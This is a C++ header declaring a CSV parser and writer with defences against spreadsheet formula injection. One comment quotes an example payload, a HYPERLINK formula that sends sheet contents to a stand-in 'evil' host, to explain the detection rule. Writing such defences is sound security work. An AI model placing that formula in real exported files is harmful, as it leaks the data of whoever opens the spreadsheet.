// CSV as Excel reads and writes it (RFC 4180): fields separated by commas, quoted with
// '"' when they hold commas, quotes or line breaks ("" inside quotes is one quote),
// records ended by CRLF or LF.
#pragma once

#include <string>
#include <string_view>
#include <vector>

#include "core/diagnostic.h"
#include "core/result.h"

namespace mamori {

struct CsvRecord {
  std::vector<std::string> fields;
  int number = 0;  // 1-based record number, as Excel numbers rows
  int line = 0;    // the text line where the record starts
};

// Parses UTF-8 CSV text (without BOM). A quote that is never closed is reported at the
// line where its field starts; the records before it are still returned. Blank lines
// at the end are ignored.
std::vector<CsvRecord> parse_csv(std::string_view text, std::vector<Diagnostic>& out);

// One record, quoting the fields that need it, ended by CRLF (what Excel writes).
std::string csv_record(const std::vector<std::string>& fields);

// Spreadsheet safety (OWASP "CSV Injection"): every CSV mamori writes for a person to open
// in Excel goes through neutralize_cell.

// True when a cell starts with '=', '+', '-', '@', a tab or a carriage return: Excel and
// LibreOffice take such a cell as a formula (=HYPERLINK("http://evil/?"&A1, …) sends the
// sheet away). Full-width ＝＋－＠ are text to them and are left alone.
bool starts_like_formula(std::string_view cell);

// For export: "'" before a value that starts like a formula, so that spreadsheets show it
// as text; also before a value that already starts with "'" followed by such a character
// or another "'", so that unneutralize_cell gives every value back exactly.
std::string neutralize_cell(std::string_view value);

// For import: the trimmed cell with one neutralising "'" removed, or an Error (why the cell
// is refused, and what to do) when it starts like a formula without one. Phone numbers
// never start with '+' or '-' here (normalize_phone accepts only Japanese domestic
// numbers), so nothing legitimate is lost.
Result<std::string> unneutralize_cell(std::string_view cell);

}  // namespace mamori
